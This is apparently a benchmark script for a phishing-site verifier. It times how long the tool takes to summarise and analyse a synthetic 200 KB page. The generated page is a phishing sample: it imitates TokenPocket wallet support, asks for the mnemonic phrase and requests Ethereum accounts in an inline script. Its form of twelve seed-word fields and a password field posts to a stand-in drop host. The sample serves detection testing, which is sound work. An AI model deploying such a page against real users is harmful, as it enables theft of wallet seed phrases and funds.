"""`make bench`, deep check part: how long reading a typical 200 KB page takes (HTML → page
summary → reasons), without the network: the page is built here, realistic in shape (a
navigation bar, many paragraphs and links, images, inline scripts, a form)."""

from __future__ import annotations

import json
import statistics
import sys
import time
from datetime import timedelta
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))


def typical_page(target_bytes: int = 200 * 1024) -> bytes:
    head = ("<!doctype html><html lang='zh'><head><meta charset='utf-8'><title>TokenPocket 官方客服中心</title>"
            "<meta name='description' content='TP钱包 在线客服'><link rel='icon' href='/tokenpocket-logo.ico'>"
            "<script>window.dataLayer=[];function approve(){ethereum.request({method:'eth_requestAccounts'})}</script>"
            "</head><body><nav>" + "".join(f"<a href='/section/{i}'>栏目 {i}</a>" for i in range(40)) + "</nav>")
    block = ("<article><h2>钱包安全小贴士 Wallet safety</h2><p>" + "区块链钱包的资产由私钥控制。" * 20 +
             "</p><p>" + "Keep your wallet software up to date and check every address twice. " * 12 +
             "</p><img src='/img/banner.png' alt='banner'><a href='https://t.me/tp_kefu_888'>客服</a>"
             "<a href='https://example-news.com/a'>news</a></article>")
    form = ("<form action='https://collect.example-drop.net/s' method='post'>" +
            "".join(f"<input type='text' name='w{i}'>" for i in range(12)) + "<input type='password'></form>")
    body = head.encode()
    while len(body) < target_bytes - 2000:
        body += block.encode()
    return body + form.encode() + b"<p>\xe8\xaf\xb7\xe8\xbe\x93\xe5\x85\xa5\xe5\x8a\xa9\xe8\xae\xb0\xe8\xaf\x8d</p></body></html>"


def main() -> int:
    from verifier import page
    from verifier.check import Verifier
    from verifier.page_html import summarise_html
    from verifier.registry.schema import parse_registry

    registry = parse_registry(json.loads((ROOT / "data" / "official_channels.json").read_text(encoding="utf-8")))
    moment = registry.issued_at + timedelta(days=1)
    verifier = Verifier(registry, clock=lambda: moment)
    html = typical_page()
    summarise, analyse = [], []
    for _ in range(7):
        start = time.perf_counter()
        summary = summarise_html(html, "https://help-desk-24.top/")
        middle = time.perf_counter()
        reasons = page.analyse_summary(summary, "help-desk-24.top", verifier)
        summarise.append(middle - start)
        analyse.append(time.perf_counter() - middle)
    print("\ndeep check: reading a typical page (no network)")
    print(f"  page size                                {len(html) / 1024:8.0f} KB")
    print(f"  HTML -> page summary (median of 7)        {statistics.median(summarise) * 1000:8.1f} ms")
    print(f"  summary -> reasons (median of 7)          {statistics.median(analyse) * 1000:8.1f} ms")
    print(f"  signs found: {', '.join(r.code for r in reasons)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
